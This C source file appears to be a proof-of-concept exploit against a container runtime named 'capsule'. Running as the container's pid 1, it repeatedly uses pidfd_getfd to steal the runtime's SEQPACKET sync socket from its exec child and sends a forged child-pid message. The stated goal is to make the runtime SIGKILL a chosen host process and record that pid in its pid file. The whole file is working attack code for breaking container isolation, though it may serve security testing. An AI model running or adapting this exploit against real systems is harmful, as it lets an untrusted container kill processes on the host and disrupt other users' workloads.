/* Steal capsule's sync socket from its exec child with pidfd_getfd and send a forged pid, so
 * that capsule would SIGKILL a host process and write its pid to --pid-file.
 * Each round waits for capsule's exec child (argv[0] is ARGV0) and tries while it runs capsule's code. */
#include <stdint.h>
#include <sys/socket.h>
#include <sys/syscall.h>

#include "attack.h"

/* capsule's sync message header and its SYNC_CHILD_PID type, as the runtime had them. */
struct sync_hdr {
        uint32_t type;
        int32_t value;
};
#define SYNC_CHILD_PID 4

/* One round: steal the socket of pid, which runs capsule's code while argv[0] is argv0. */
static void attack(int pid, const char *argv0, int victim, long long deadline)
{
        int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
        if (pidfd < 0) {
                report("pidfd_open pid=%d failed: %s", pid, strerror(errno));
                return;
        }
        int attempts = 0, last = 0, stolen = 0;
        while (ms_now() < deadline && argv0_is(pid, argv0) && !stolen) {
                for (int fd = 3; fd < 64 && !stolen; fd++) {
                        int s = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
                        if (s < 0) {
                                /* EBADF: no such fd; ESRCH: it just exited */
                                if (errno != EBADF && errno != ESRCH) {
                                        attempts++;
                                        last = errno;
                                }
                                continue;
                        }
                        attempts++;
                        int type = 0;
                        socklen_t len = sizeof(type);
                        if (getsockopt(s, SOL_SOCKET, SO_TYPE, &type, &len) == 0 && type == SOCK_SEQPACKET) {
                                struct sync_hdr h = { .type = SYNC_CHILD_PID, .value = victim };
                                stolen = 1;
                                if (send(s, &h, sizeof(h), MSG_NOSIGNAL) < 0)
                                        report("stole fd %d of pid=%d, send failed: %s", fd, pid, strerror(errno));
                                else
                                        report("FORGED pid %d on fd %d of pid=%d", victim, fd, pid);
                        }
                        close(s);
                }
        }
        if (!stolen)
                report("pidfd_getfd pid=%d failed after %d attempts: %s", pid, attempts, strerror(last));
        close(pidfd);
}

/* usage: sock_thief REPORT ARGV0 VICTIM_PID ROUNDS TIMEOUT_MS */
int main(int argc, char **argv)
{
        if (argc != 6)
                return 2;
        report_open(argv[1]);
        int victim = atoi(argv[3]), rounds = atoi(argv[4]);
        long long timeout = atoll(argv[5]);
        report("ready");
        for (int r = 0; r < rounds; r++) {
                long long deadline = ms_now() + timeout;
                int pid = find_process(argv[2], deadline);
                if (!pid)
                        break;
                report("saw pid=%d", pid);
                attack(pid, argv[2], victim, deadline);
                while (argv0_is(pid, argv[2]))
                        usleep(1000);
        }
        report("done");
        /* As the container's pid 1, exiting would kill what capsule runs next to us. */
        for (;;)
                pause();
}
